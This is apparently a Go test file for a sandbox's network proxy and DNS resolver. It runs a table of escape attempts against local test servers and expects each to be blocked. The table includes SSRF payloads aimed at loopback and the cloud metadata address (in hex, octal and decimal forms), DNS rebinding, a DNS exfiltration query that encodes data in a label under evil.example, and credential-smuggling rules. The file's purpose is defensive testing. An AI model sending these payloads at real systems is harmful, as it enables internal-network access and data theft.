package escape

import (
	"bufio"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/miekg/dns"

	"github.com/capsulegate/capsulegate/errs"
	"github.com/capsulegate/capsulegate/netpolicy"
)

// Network and DNS rows attack a session's real netpolicy proxy and pinning resolver on
// 127.0.0.1, as a shell tool's HTTP_PROXY and resolv.conf reach them. The sentinel is
// an HTTP server no rule allows (it must count no request) and the upstream DNS server
// (it must never be asked about a name no rule allows: that would be a DNS leak).

// netFixture is the proxy, the resolver and what they guard.
type netFixture struct {
	sentinelPort, allowedPort, proxyAddr, dnsAddr string
	upstreamAddr                                  string // the upstream DNS server, for other resolvers to ask
	sentinelHits                                  atomic.Int64

	mu       sync.Mutex
	denials  []netpolicy.Denial
	upstream map[string]int // questions the upstream DNS server got, by lower-case name
	flips    atomic.Int64   // answers given for flip.test
}

func (n *netFixture) lastDenial() (netpolicy.Denial, int) {
	n.mu.Lock()
	defer n.mu.Unlock()
	if len(n.denials) == 0 {
		return netpolicy.Denial{}, 0
	}
	return n.denials[len(n.denials)-1], len(n.denials)
}

func (n *netFixture) asked(name string) int {
	n.mu.Lock()
	defer n.mu.Unlock()
	return n.upstream[strings.ToLower(dns.Fqdn(name))]
}

func (s *suite) netFix(t *testing.T) *netFixture {
	if s.net != nil {
		return s.net
	}
	n := &netFixture{upstream: map[string]int{}}
	sentinel := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		n.sentinelHits.Add(1)
		fmt.Fprint(w, "sentinel reached: "+secret)
	}))
	s.top.Cleanup(sentinel.Close)
	_, n.sentinelPort, _ = net.SplitHostPort(sentinel.Listener.Addr().String())
	allowed := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/redirect" {
			http.Redirect(w, r, sentinel.URL+"/after-redirect", http.StatusFound)
			return
		}
		fmt.Fprint(w, "allowed server")
	}))
	s.top.Cleanup(allowed.Close)
	_, n.allowedPort, _ = net.SplitHostPort(allowed.Listener.Addr().String())

	// The upstream DNS server: names for every kind of address a rule-allowed name may
	// resolve to; it records every question.
	pc, err := net.ListenPacket("udp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	up := &dns.Server{PacketConn: pc, Handler: dns.HandlerFunc(func(w dns.ResponseWriter, q *dns.Msg) {
		m := new(dns.Msg)
		m.SetReply(q)
		name := strings.ToLower(q.Question[0].Name)
		n.mu.Lock()
		n.upstream[name]++
		n.mu.Unlock()
		a := map[string]string{"api.test.": "93.184.215.14", "rebind.test.": "127.0.0.1", "meta.test.": "169.254.169.254", "private.test.": "10.1.2.3"}[name]
		if name == "flip.test." && q.Question[0].Qtype == dns.TypeA {
			// Public first, loopback after: a rebinding server (A questions only: the
			// resolver asks for AAAA alongside, in any order).
			a = "93.184.215.14"
			if n.flips.Add(1) > 1 {
				a = "127.0.0.1"
			}
		}
		switch {
		case a != "" && q.Question[0].Qtype == dns.TypeA:
			rr, _ := dns.NewRR(name + " 60 IN A " + a)
			m.Answer = append(m.Answer, rr)
		case name == "rebind.test." && q.Question[0].Qtype == dns.TypeAAAA:
			rr, _ := dns.NewRR(name + " 60 IN AAAA ::1")
			m.Answer = append(m.Answer, rr)
		}
		w.WriteMsg(m)
	})}
	go up.ActivateAndServe()
	s.top.Cleanup(func() { up.Shutdown() })
	n.upstreamAddr = pc.LocalAddr().String()

	rules, err := netpolicy.ParseRules([]string{"localhost:" + n.allowedPort, "api.test", "rebind.test:" + n.sentinelPort,
		"private.test:" + n.sentinelPort, "meta.test", "flip.test"})
	if err != nil {
		t.Fatal(err)
	}
	onDeny := func(d netpolicy.Denial) {
		n.mu.Lock()
		n.denials = append(n.denials, d)
		n.mu.Unlock()
	}
	res, err := netpolicy.NewResolver(netpolicy.ResolverConfig{Rules: rules, Upstream: pc.LocalAddr().String(), OnDeny: onDeny})
	if err != nil {
		t.Fatal(err)
	}
	dl, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	stop, err := res.Serve(nil, dl)
	if err != nil {
		t.Fatal(err)
	}
	s.top.Cleanup(func() { stop() })
	n.dnsAddr = dl.Addr().String()
	proxy, err := netpolicy.NewProxy(netpolicy.ProxyConfig{Rules: rules, Resolver: res, OnDeny: onDeny})
	if err != nil {
		t.Fatal(err)
	}
	pl, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	go proxy.Serve(pl)
	s.top.Cleanup(func() { proxy.Close() })
	n.proxyAddr = pl.Addr().String()
	s.net = n
	return n
}

var netCode = regexp.MustCompile(`E-NET-\d{3}`)

// proxyAttack writes a raw request (placeholders {sentinel}, {allowed}, {proxy} are
// the ports and the proxy's address) to the proxy and classifies the answer as
// "<status> <E-NET code in its body>". The sentinel must count no request.
func proxyAttack(raw string) func(*testing.T, *suite) outcome {
	return func(t *testing.T, s *suite) outcome {
		n := s.netFix(t)
		_, proxyPort, _ := net.SplitHostPort(n.proxyAddr)
		req := strings.NewReplacer("{sentinel}", n.sentinelPort, "{allowed}", n.allowedPort, "{proxy}", proxyPort, "\n", "\r\n").Replace(raw)
		hits := n.sentinelHits.Load()
		c, err := net.Dial("tcp", n.proxyAddr)
		if err != nil {
			t.Fatal(err)
		}
		defer c.Close()
		c.SetDeadline(time.Now().Add(20 * time.Second))
		if _, err := io.WriteString(c, req); err != nil {
			t.Fatal(err)
		}
		method, _, _ := strings.Cut(req, " ")
		resp, err := http.ReadResponse(bufio.NewReader(c), &http.Request{Method: method})
		if err != nil {
			t.Fatalf("no answer from the proxy: %v", err)
		}
		var body []byte
		if method != http.MethodConnect || resp.StatusCode != http.StatusOK {
			body, _ = io.ReadAll(io.LimitReader(resp.Body, 1<<16))
		}
		resp.Body.Close()
		class := strconv.Itoa(resp.StatusCode)
		if code := netCode.FindString(string(body)); code != "" {
			class += " " + code
		}
		if resp.StatusCode == http.StatusOK && string(body) == "allowed server" {
			// Answered, by the host the URL names: what defeated the attack is that the
			// proxy routes by the URL, whatever the Host header says.
			class += " from the URL's host"
		}
		if loc := resp.Header.Get("Location"); loc != "" {
			class += " not followed"
		}
		escaped := leaked(string(body))
		if got := n.sentinelHits.Load(); got != hits {
			escaped = join(escaped, fmt.Sprintf("the sentinel server was reached %d times", got-hits))
		}
		if method == http.MethodConnect && resp.StatusCode == http.StatusOK {
			escaped = join(escaped, "a tunnel was opened")
		}
		return outcome{class: class, escaped: escaped}
	}
}

// ruleAttack parses a rule a manifest could grant itself: it must be refused with its code.
func ruleAttack(rule string) func(*testing.T, *suite) outcome {
	return func(t *testing.T, s *suite) outcome {
		_, err := netpolicy.ParseRules([]string{rule})
		if err == nil {
			return outcome{class: "accepted", escaped: "the rule " + rule + " was accepted"}
		}
		return blocked(errs.Code(err))
	}
}

func networkRows() []row {
	get := func(url string) string { return "GET " + url + " HTTP/1.1\nHost: x\nConnection: close\n\n" }
	cases := []struct{ attack, raw, want string }{
		{"GET loopback on a port no rule allows", get("http://127.0.0.1:{sentinel}/"), "403 E-NET-016"},
		{"GET localhost on a port no rule allows", get("http://localhost:{sentinel}/"), "403 E-NET-016"},
		{"GET the cloud metadata address", get("http://169.254.169.254/latest/meta-data/"), "403 E-NET-016"},
		{"GET loopback as an IPv4-mapped IPv6 literal", get("http://[::ffff:127.0.0.1]:{sentinel}/"), "403 E-NET-016"},
		{"GET loopback in hex", get("http://0x7f000001:{sentinel}/"), "403 E-NET-016"},
		{"GET loopback as one decimal number", get("http://2130706433:{sentinel}/"), "403 E-NET-016"},
		{"GET loopback in octal", get("http://0177.0.0.1:{sentinel}/"), "403 E-NET-016"},
		{"GET a host no rule allows", get("http://evil.example/"), "403 E-NET-016"},
		{"GET an allowed name resolving to loopback (rebinding)", get("http://rebind.test:{sentinel}/"), "403 E-NET-017"},
		{"GET an allowed name resolving to a private address", get("http://private.test:{sentinel}/"), "403 E-NET-017"},
		{"GET an allowed name resolving to the metadata address", get("http://meta.test/latest/meta-data/"), "403 E-NET-017"},
		{"CONNECT to loopback on a port no rule allows", "CONNECT 127.0.0.1:{sentinel} HTTP/1.1\nHost: 127.0.0.1:{sentinel}\n\n", "403 E-NET-016"},
		{"CONNECT to an allowed name resolving to loopback", "CONNECT rebind.test:{sentinel} HTTP/1.1\nHost: rebind.test:{sentinel}\n\n", "403 E-NET-017"},
		{"an origin-form request (the proxy as a web server)", "GET / HTTP/1.1\nHost: 127.0.0.1:{sentinel}\nConnection: close\n\n", "400 E-NET-023"},
		{"an ftp:// request", get("ftp://localhost:{allowed}/"), "400 E-NET-024"},
		{"a request addressed to the proxy itself", get("http://127.0.0.1:{proxy}/"), "403 E-NET-016"},
		{"an allowed host redirecting to the sentinel", get("http://localhost:{allowed}/redirect"), "302 not followed"},
		{"an allowed URL with the sentinel in its Host header", "GET http://localhost:{allowed}/ HTTP/1.1\nHost: 127.0.0.1:{sentinel}\nConnection: close\n\n", "200 from the URL's host"},
	}
	var rows []row
	for i, c := range cases {
		rows = append(rows, row{id: fmt.Sprintf("NT-%02d", i+1), surface: Network, attack: "through the proxy: " + c.attack, want: c.want, run: proxyAttack(c.raw)})
	}
	for i, c := range []struct{ attack, rule, want string }{
		{"allow everything", "*", netpolicy.CodeTooBroad},
		{"allow a whole public suffix", "*.com", netpolicy.CodeTooBroad},
		{"allow 0.0.0.0 (every local address)", "0.0.0.0", netpolicy.CodeUnspecified},
		{"allow :: (every local address)", "[::]", netpolicy.CodeUnspecified},
		{"smuggle credentials into a rule", "http://user:pw@api.test", netpolicy.CodeUserinfo},
		{"name an interface by an IPv6 zone", "[fe80::1%25eth0]", netpolicy.CodeZone},
		{"a rule with a path", "api.test/admin", netpolicy.CodePath},
		{"a gopher:// rule", "gopher://api.test", netpolicy.CodeScheme},
		{"a host ending in a number that is no IPv4 address", "1.2.3.999", netpolicy.CodeNumericHost},
	} {
		rows = append(rows, row{id: fmt.Sprintf("NT-%02d", 30+i), surface: Network, attack: "a manifest rule that would " + c.attack + ": " + c.rule,
			want: c.want, check: true, run: ruleAttack(c.rule)})
	}
	return rows
}

// dnsAttack sends q to the resolver over TCP and classifies the answer as its rcode
// (and the denial's code when one was reported, and the answers when there are any).
// No name outside the rules may have reached the upstream server, and no answer may
// carry a restricted address.
func dnsAttack(build func() *dns.Msg) func(*testing.T, *suite) outcome {
	return func(t *testing.T, s *suite) outcome {
		n := s.netFix(t)
		q := build()
		_, before := n.lastDenial()
		c := &dns.Client{Net: "tcp", Timeout: 20 * time.Second}
		m, _, err := c.Exchange(q, n.dnsAddr)
		if err != nil {
			t.Fatalf("no answer from the resolver: %v", err)
		}
		class := dns.RcodeToString[m.Rcode]
		if m.Rcode == dns.RcodeSuccess && len(m.Answer) == 0 {
			// Answered with nothing: what defeated the attack is that the resolver answers
			// addresses of allowed names only, never what else upstream knows.
			class += " no answer"
		}
		if d, after := n.lastDenial(); after > before {
			class += " " + errs.Code(d.Err)
			if d.Source != netpolicy.SourceDNS {
				t.Errorf("the denial's source is %q", d.Source)
			}
		}
		var escaped []string
		for _, rr := range m.Answer {
			var a netip.Addr
			switch v := rr.(type) {
			case *dns.A:
				a, _ = netip.AddrFromSlice(v.A.To4())
			case *dns.AAAA:
				a, _ = netip.AddrFromSlice(v.AAAA)
			}
			class += " " + a.String()
			if why, bad := netpolicy.Restricted(a); bad {
				escaped = append(escaped, "answered "+a.String()+" ("+why+")")
			}
		}
		for _, qq := range q.Question {
			if strings.Contains(qq.Name, "evil") && n.asked(qq.Name) > 0 {
				escaped = append(escaped, "the upstream server was asked about "+qq.Name)
			}
		}
		return outcome{class: class, escaped: strings.Join(escaped, "; ")}
	}
}

func query(name string, qtype uint16) func() *dns.Msg {
	return func() *dns.Msg {
		m := new(dns.Msg)
		m.SetQuestion(dns.Fqdn(name), qtype)
		return m
	}
}

func dnsRows() []row {
	return []row{
		{id: "DN-01", surface: DNS, attack: "A for a name no rule allows", want: "REFUSED " + netpolicy.CodeNotAllowed, run: dnsAttack(query("evil.example", dns.TypeA))},
		{id: "DN-02", surface: DNS, attack: "exfiltrate data in a label of a name no rule allows", want: "REFUSED " + netpolicy.CodeNotAllowed,
			run: dnsAttack(query("c2VjcmV0LWRhdGE.exfil.evil.example", dns.TypeA))},
		{id: "DN-03", surface: DNS, attack: "A for an allowed name upstream resolves to loopback", want: "REFUSED " + netpolicy.CodeRestricted, run: dnsAttack(query("rebind.test", dns.TypeA))},
		{id: "DN-04", surface: DNS, attack: "AAAA for an allowed name upstream resolves to ::1", want: "REFUSED " + netpolicy.CodeRestricted, run: dnsAttack(query("rebind.test", dns.TypeAAAA))},
		{id: "DN-05", surface: DNS, attack: "A for an allowed name resolving to the metadata address", want: "REFUSED " + netpolicy.CodeRestricted, run: dnsAttack(query("meta.test", dns.TypeA))},
		{id: "DN-06", surface: DNS, attack: "A for an allowed name resolving to a private address", want: "REFUSED " + netpolicy.CodeRestricted, run: dnsAttack(query("private.test", dns.TypeA))},
		{id: "DN-07", surface: DNS, attack: "rebinding: an upstream answering public, then loopback", want: "pinned 93.184.215.14", run: rebindAttack},
		{id: "DN-08", surface: DNS, attack: "TXT for an allowed name (what upstream knows, beyond addresses)", want: "NOERROR no answer", run: dnsAttack(query("api.test", dns.TypeTXT))},
		{id: "DN-09", surface: DNS, attack: "TXT for a name no rule allows", want: "REFUSED " + netpolicy.CodeNotAllowed, run: dnsAttack(query("txt.evil.example", dns.TypeTXT))},
		{id: "DN-10", surface: DNS, attack: "an IP literal as a name (127.0.0.1)", want: "REFUSED " + netpolicy.CodeNotAllowed, run: dnsAttack(query("127.0.0.1", dns.TypeA))},
		{id: "DN-11", surface: DNS, attack: "two questions in one query, the second not allowed", want: "FORMERR", run: dnsAttack(func() *dns.Msg {
			m := new(dns.Msg)
			m.SetQuestion("api.test.", dns.TypeA)
			m.Question = append(m.Question, dns.Question{Name: "two.evil.example.", Qtype: dns.TypeA, Qclass: dns.ClassINET})
			return m
		})},
		{id: "DN-12", surface: DNS, attack: "a CHAOS-class query (version.bind)", want: "NOTIMP", run: dnsAttack(func() *dns.Msg {
			m := new(dns.Msg)
			m.SetQuestion("version.bind.", dns.TypeTXT)
			m.Question[0].Qclass = dns.ClassCHAOS
			return m
		})},
		{id: "DN-13", surface: DNS, attack: "a NOTIFY for a name no rule allows", want: "NOTIMP", run: dnsAttack(func() *dns.Msg {
			m := new(dns.Msg)
			m.SetNotify("notify.evil.example.")
			return m
		})},
	}
}

// rebindAttack asks for flip.test twice: the second answer must still be the first,
// pinned, though upstream now says loopback.
func rebindAttack(t *testing.T, s *suite) outcome {
	n := s.netFix(t)
	c := &dns.Client{Net: "tcp", Timeout: 20 * time.Second}
	var got []string
	for range 2 {
		m, _, err := c.Exchange(query("flip.test", dns.TypeA)(), n.dnsAddr)
		if err != nil {
			t.Fatal(err)
		}
		var as []string
		for _, rr := range m.Answer {
			if a, ok := rr.(*dns.A); ok {
				as = append(as, a.A.String())
			}
		}
		got = append(got, strings.Join(as, ","))
	}
	if got[0] != got[1] {
		return outcome{class: "answers " + strings.Join(got, " then "), escaped: "the second answer changed to " + got[1]}
	}
	return blocked("pinned " + got[0])
}
